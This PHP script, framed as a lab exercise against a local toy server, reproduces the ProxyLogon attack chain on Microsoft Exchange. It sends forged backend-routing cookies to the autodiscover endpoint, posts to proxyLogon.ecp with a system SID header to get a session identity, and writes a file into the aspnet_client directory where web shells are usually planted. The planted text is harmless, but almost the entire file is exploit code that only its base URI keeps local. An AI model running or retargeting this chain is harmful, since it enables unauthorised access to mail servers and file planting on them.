<?php
// Lab request chain on Guzzle; it only talks to the local toy server on 127.0.0.1.
declare(strict_types=1);

require __DIR__ . '/vendor/autoload.php';

use GuzzleHttp\Client;

final class ChainSettings
{
    public const CHROME = '88.0.4324.190';
    public const AGENT = 'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/' . self::CHROME . ' Safari/537.36';
    public const DOMAIN = 'lab.invalid';
    public const NOTE = '/aspnet_client/system_web/readme_91453.txt';
    public const TICKET = 1843073522;
}

function browserHeaders(): array
{
    return [
        'User-Agent' => ChainSettings::AGENT,
        'x-requested-with' => 'XMLHttpRequest',
        'Accept' => '*/*',
        'accept-language' => 'en-US,en;q=0.9',
        'connection' => 'close',
    ];
}

$port = $argv[1] ?? '8080';
$http = new Client(['base_uri' => "http://127.0.0.1:{$port}", 'timeout' => 10, 'http_errors' => false]);
$domain = ChainSettings::DOMAIN;
$mailbox = "administrator@{$domain}";

$ticket = ChainSettings::TICKET;
$cookie = implode('; ', [
    'X-AnonResource=true',
    "X-AnonResource-Backend={$domain}",
    "X-BEResource=localhost@{$domain}/ews/exchange.asmx?a%3D~{$ticket}",
]);
$probe = $http->request('GET', '/autodiscover/autodiscover.json', [
    'query' => [
        'Pad' => str_repeat('A', 37),
        'Protocol' => 'Autodiscoverv1',
        'Email' => "{$mailbox}/mapi/nspi",
        'RequestId' => '20200302-7720',
    ],
    'headers' => browserHeaders() + ['cookie' => $cookie],
]);
if ($probe->getStatusCode() >= 500) {
    exit(1);
}

$logon = $http->request('POST', '/ecp/proxyLogon.ecp', [
    'headers' => [
        'user-agent' => ChainSettings::AGENT,
        'msexchlogonmailbox' => 'S-1-5-20',
        'content-type' => 'application/json',
        'X-BEResource' => "localhost@{$domain}/ecp/proxyLogon.ecp",
    ],
    'body' => "{\"mailbox\": \"{$mailbox}\", \"requestKind\": \"identity\", \"seq\": 1}",
]);
$who = $logon->getStatusCode() === 200 ? trim((string) $logon->getBody()) : '';
if ($who === '') {
    $who = 'anonymous';
}

$lines = [];
foreach (range(1, 3) as $n) {
    $lines[] = "note {$n} of 3 for {$who}";
}
$http->request('POST', ChainSettings::NOTE, [
    'headers' => [
        'user-agent' => ChainSettings::AGENT,
        'X-Note-Path' => ChainSettings::NOTE,
        'Content-Type' => 'text/plain',
    ],
    'body' => implode("\n", $lines),
]);

$check = $http->request('GET', ChainSettings::NOTE, ['headers' => browserHeaders()]);
echo $check->getStatusCode() === 404 ? 0 : strlen((string) $check->getBody()), PHP_EOL;
